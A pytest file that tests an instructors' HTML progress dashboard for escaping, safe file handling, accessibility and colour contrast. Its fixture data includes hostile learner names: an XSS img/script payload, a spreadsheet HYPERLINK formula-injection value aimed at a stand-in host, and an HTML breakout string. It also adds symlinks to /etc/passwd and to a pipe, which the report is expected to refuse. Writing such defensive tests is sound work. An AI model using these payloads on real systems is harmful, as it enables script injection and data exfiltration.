"""The instructors' dashboard (``report FOLDER --html``): a class of 200 learners plus hostile
files, written by the command, opened in Chromium. The page renders every learner and every
exercise with a code in each cell, shows hostile names as text, fetches nothing, axe-core finds
no serious or critical violation in it, and every cell's colours have a contrast of 4.5 or more.
Screenshots go to test-artifacts/ (docs/report-dashboard.png is the first)."""

import json
import os
import random
import re
import subprocess
import sys
from pathlib import Path

import pytest

from engine.core import export, progress
from engine.report import report
from engine.core.registry import all_exercises, all_questions
from tools.browser import page_snippets

ROOT = Path(__file__).resolve().parents[1]
LEARNERS = 200
SERIOUS = ("serious", "critical")

# The JavaScript these tests evaluate in the page: tests/test_report_dashboard.js, one snippet per name.
SNIPPETS = page_snippets(Path(__file__).with_suffix(".js"))

HOSTILE_NAMES = [
    '<img src=x onerror="alert(1)"><script>alert(2)</script>',
    ';=HYPERLINK(CHAR(104)&"ttp://example.invalid/?"&A3,"see")',
    "</td></tr></table><h1>big</h1>",
    "O'Brien & \"Sons\"",
]


def sealed(name, ident, exercises=None, questions=None, now="2026-03-01T10:00:00Z"):
    record = progress.empty_record()
    record.update(exercises=exercises or {}, questions=questions or {}, learner={"name": name, "id": ident})
    return json.dumps(export.seal(record, now=now))


def learner_record(rng):
    """Somebody of the class: passes more or fewer exercises, checks, opens hints and solutions."""
    skill = rng.random()
    exercises, questions = {}, {}
    for ex in all_exercises():
        r = rng.random()
        revealed = rng.random() < 0.06
        if r < skill:
            exercises[ex.id] = {"attempts": rng.choice([1, 1, 1, 2, 2, 3]), "passed": True,
                                "hints": rng.choice([0, 0, 0, 1, 2]),
                                "passed_after_solution": revealed, "solution_revealed": revealed}
        elif r < skill + 0.2:
            exercises[ex.id] = {"attempts": rng.choice([1, 1, 2, 2, 3, 5]), "hints": rng.randint(0, 3),
                                "solution_revealed": revealed}
        elif r < skill + 0.3:
            exercises[ex.id] = {"hints": 1}
    for q in all_questions():
        if rng.random() < skill + 0.2:
            questions[q.id] = {"answer": 1, "correct": rng.random() < 0.7, "tries": rng.randint(1, 3)}
    return exercises, questions


def make_class(folder: Path, tmp: Path) -> None:
    """200 learners, the hostile names, two learners typing one name, a forged export, and
    links, a pipe and junk that the report must refuse."""
    rng = random.Random(200)
    for i in range(LEARNERS):
        exercises, questions = learner_record(rng)
        (folder / f"learner-{i:03d}.json").write_text(sealed(f"Learner {i:03d}", f"{i:012x}", exercises, questions))
    for i, name in enumerate(HOSTILE_NAMES):
        (folder / f"hostile-{i}.json").write_text(sealed(name, f"bad{i:09d}"))
    (folder / "li-wei-1.json").write_text(sealed("Li Wei", "1111aaaa1111"))
    (folder / "li-wei-2.json").write_text(sealed("li wei", "2222bbbb2222"))
    (folder / "forged.json").write_text(sealed("Learner 000", "ffffffffffff", now="2026-03-09T10:00:00Z"))
    (folder / "broken.json").write_text("{")
    (folder / "loop.json").symlink_to("loop.json")
    (folder / "outside.json").symlink_to("/etc/passwd")
    os.mkfifo(tmp / "pipe")
    (folder / "pipe.json").symlink_to(tmp / "pipe")


def contrast(foreground: str, background: str) -> float:
    """WCAG 2's contrast ratio of two CSS colours given as ``rgb(r, g, b)``."""
    def luminance(colour):
        channels = [int(c) / 255 for c in re.findall(r"\d+", colour)[:3]]
        r, g, b = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * r + 0.7152 * g + 0.0722 * b
    light, dark = sorted((luminance(foreground), luminance(background)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


@pytest.fixture(scope="module")
def dashboard(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("dashboard")
    folder = tmp / "class-a"
    folder.mkdir()
    make_class(folder, tmp)
    done = subprocess.run([sys.executable, "-m", "engine", "report", "class-a", "--csv", "class-a.csv", "--html"],
                          cwd=tmp, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr
    return tmp / "class-a.html", report.build(folder)


def test_the_page_fetches_nothing_runs_nothing_and_escapes_every_learner_string(dashboard):
    path, rep = dashboard
    text = path.read_text()
    assert "<script" not in text.lower() and "<img" not in text.lower() and "<h1>big" not in text
    assert re.findall(r"<[^>]*\s(?:src|href|action)=", text) == []      # nothing to fetch or follow
    assert "Content-Security-Policy" in text and "default-src 'none'" in text
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in text
    assert len(rep.exports) == LEARNERS + len(HOSTILE_NAMES) + 3


def test_the_dashboard_renders_in_chromium_with_no_serious_axe_violation(dashboard, page, artifacts):
    from engine.report import dashboard as dashboard_module
    from test_browser_access import axe_run

    path, rep = dashboard
    requests, dialogs = [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(path.as_uri())
    heat = page.locator("table.heat tbody tr")
    assert heat.count() == len(rep.exports)
    exercises = len(all_exercises())
    cells = page.evaluate("""() => [...document.querySelectorAll('table.heat tbody tr')]
        .map(tr => [...tr.querySelectorAll('td')].slice(1).map(td => td.textContent.trim()))""")
    assert all(len(row) == exercises and all(row) for row in cells)   # a code in every cell
    body = page.inner_text("main")
    for name in HOSTILE_NAMES:
        assert name in body
    assert page.locator("main img, main script, main h1").count() == 1      # the page's own heading
    assert page.evaluate("document.querySelectorAll('[onerror]').length") == 0
    assert "Li Wei [1111aaaa]" in body and "li wei [2222bbbb]" in body
    for refused in ("loop.json", "outside.json", "pipe.json", "broken.json"):
        assert page.locator("table", has_text="What happened").get_by_text(refused, exact=True).count() == 1
    assert "Who may need help" in body and "Exercises, hardest first" in body
    page.screenshot(path=str(artifacts / "report-dashboard.png"), full_page=True,
                    clip={"x": 0, "y": 0, "width": 1280, "height": 1500})
    page.locator("#heatmap").scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / "report-dashboard-heatmap.png"))
    # axe's colour-contrast rule takes seconds per thousand cells, so it runs on everything but
    # the heatmap's body; and it leaves a cell of one or two characters undecided. So the
    # contrast of every pair of colours a cell of the heatmap or the legend shows is computed
    # here (WCAG's formula), and must be at least 4.5.
    violations = axe_run(page, {"include": [["body"]]}, {"rules": {"color-contrast": {"enabled": False}}})
    violations += axe_run(page, {"include": [["body"]], "exclude": [["table.heat tbody"]]},
                          {"runOnly": {"type": "rule", "values": ["color-contrast"]}})
    pairs = page.evaluate(SNIPPETS["CELL_COLOURS"])
    assert len(pairs) == len(dashboard_module.CELLS)
    for pair in pairs:
        assert contrast(*pair.split("|")) >= 4.5, pair
    serious = [f"{v['id']} ({v['impact']}): {v['help']}\n    " + "\n    ".join(v["nodes"][:5])
               for v in violations if v["impact"] in SERIOUS]
    assert serious == [], "\n".join(serious)
    assert dialogs == []
    assert requests == [path.as_uri()]


def test_the_instructors_guide_states_the_reports_rules_as_the_code_has_them():
    from engine.report import dashboard
    from engine.report import spreadsheet

    readme = " ".join((ROOT / "docs" / "instructors.md").read_text().split())
    assert (f"checked an exercise {dashboard.STUCK_CHECKS} or more times without passing it, opened "
            f"{dashboard.SOLUTIONS} or more solutions, or passed fewer than half as many") in readme
    assert dashboard.BEHIND == 0.5
    assert report.MAX_FILE_BYTES == 1_000_000 and "at most 1 MB of it is read" in readme
    assert "with the columns " + ", ".join(f"`{c}`" for c in report.CSV_COLUMNS[:-1]) in readme.replace(
        " (UTC)", "").replace(" and `flags`", ", `flags`")
    assert ", ".join(f"`{c}`" for c in report.TEXT_COLUMNS[:-1]) + f" and `{report.TEXT_COLUMNS[-1]}`" in readme
    assert ", ".join(f"`{o}`" for o in report.OUTCOMES) in readme
    codes = [code for _cls, code, _bg, _fg in dashboard.CELLS.values()]
    assert all(f"{code} " in readme for code in codes)
    assert spreadsheet.FORMULA_STARTS[:4] == ("=", "+", "-", "@")
